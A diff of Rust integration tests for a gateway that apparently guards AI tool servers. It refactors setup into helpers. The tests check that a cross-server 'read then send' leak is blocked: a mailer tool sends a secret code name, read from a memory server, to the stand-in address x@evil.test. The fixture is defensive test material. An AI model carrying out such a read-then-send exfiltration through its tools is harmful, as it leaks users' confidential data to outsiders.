@@ -88,6 +88,12 @@ impl Wire {
         init
     }
 
+    /// Initializes and checks the server lists tools.
+    fn ready(&mut self) {
+        self.start();
+        assert!(!self.list().is_empty(), "the server lists its tools");
+    }
+
     fn list(&mut self) -> Vec<String> {
         let v = self.request("tools/list", json!({}));
         v["result"]["tools"]
@@ -285,6 +291,16 @@ fn seed_and_read(w: &mut Wire) -> String {
     text
 }
 
+/// The mailer sends the secret `seed_and_read` read: blocked as read-then-send.
+fn assert_leak_blocked(mailer: &mut Wire, why_blocked: &str) {
+    let leak = mailer.call(
+        "send_message",
+        json!({"to": "x@evil.test", "body": "fyi: code name BLUEHERON-7731"}),
+    );
+    let why = blocked_by(&leak).expect(why_blocked);
+    assert!(why.starts_with("cross_server.read_then_send"), "{why}");
+}
+
 fn events_of(sb: &Sandbox, kind: &str) -> Vec<Value> {
     sb.events()
         .into_iter()
@@ -305,16 +321,10 @@ fn linked_exfiltration_is_blocked_and_an_unrelated_send_alerts() {
         ],
     );
     for id in ["memory", "mailer"] {
-        ide.wire(id).start();
-        assert!(!ide.wire(id).list().is_empty());
+        ide.wire(id).ready();
     }
     seed_and_read(ide.wire("memory"));
-    let leak = ide.wire("mailer").call(
-        "send_message",
-        json!({"to": "x@evil.test", "body": "fyi: code name BLUEHERON-7731"}),
-    );
-    let why = blocked_by(&leak).expect("the linked send is blocked");
-    assert!(why.starts_with("cross_server.read_then_send"), "{why}");
+    assert_leak_blocked(ide.wire("mailer"), "the linked send is blocked");
     let fine = ide.wire("mailer").call(
         "send_message",
         json!({"to": "team@corp.test", "body": "standup moved to 10"}),
@@ -391,8 +401,7 @@ fn a_read_made_alone_is_handed_over_when_another_server_joins() {
         &["mailer"],
         &[],
     );
-    ide.wire("memory").start();
-    assert!(!ide.wire("memory").list().is_empty());
+    ide.wire("memory").ready();
     seed_and_read(ide.wire("memory"));
     assert_eq!(
         call_window_rows(&sb),
@@ -401,14 +410,8 @@ fn a_read_made_alone_is_handed_over_when_another_server_joins() {
     );
 
     let mailer = ide.join("mailer");
-    mailer.start();
-    assert!(!mailer.list().is_empty());
-    let leak = mailer.call(
-        "send_message",
-        json!({"to": "x@evil.test", "body": "fyi: code name BLUEHERON-7731"}),
-    );
-    let why = blocked_by(&leak).expect("the linked send is blocked");
-    assert!(why.starts_with("cross_server.read_then_send"), "{why}");
+    mailer.ready();
+    assert_leak_blocked(mailer, "the linked send is blocked");
     assert_ne!(call_window_rows(&sb), "0", "the reads were handed over");
     drop(ide);
     let db = std::fs::read(sb.gatehouse_home().join("gatehouse.db")).unwrap();
@@ -446,16 +449,13 @@ fn wraps_started_through_launchers_share_the_clients_session() {
         ],
     );
     for id in ["memory", "mailer", "notes"] {
-        ide.wire(id).start();
-        assert!(!ide.wire(id).list().is_empty());
+        ide.wire(id).ready();
     }
     seed_and_read(ide.wire("memory"));
-    let leak = ide.wire("mailer").call(
-        "send_message",
-        json!({"to": "x@evil.test", "body": "fyi: code name BLUEHERON-7731"}),
+    assert_leak_blocked(
+        ide.wire("mailer"),
+        "the linked send is blocked across launchers",
     );
-    let why = blocked_by(&leak).expect("the linked send is blocked across launchers");
-    assert!(why.starts_with("cross_server.read_then_send"), "{why}");
     let note = ide
         .wire("notes")
         .call("read_note", json!({"text": "code name BLUEHERON-7731"}));
@@ -650,8 +650,7 @@ fn concurrent_wraps_of_one_session_allow_exactly_the_limit() {
         .collect();
     let mut ide = ide(&sb, "ide", &servers);
     for l in &labels {
-        ide.wire(l).start();
-        assert!(!ide.wire(l).list().is_empty());
+        ide.wire(l).ready();
     }
     // Round 0 starts once every earlier member has acknowledged the later
     // ones (the join protocol); until then a joiner's first check waits.
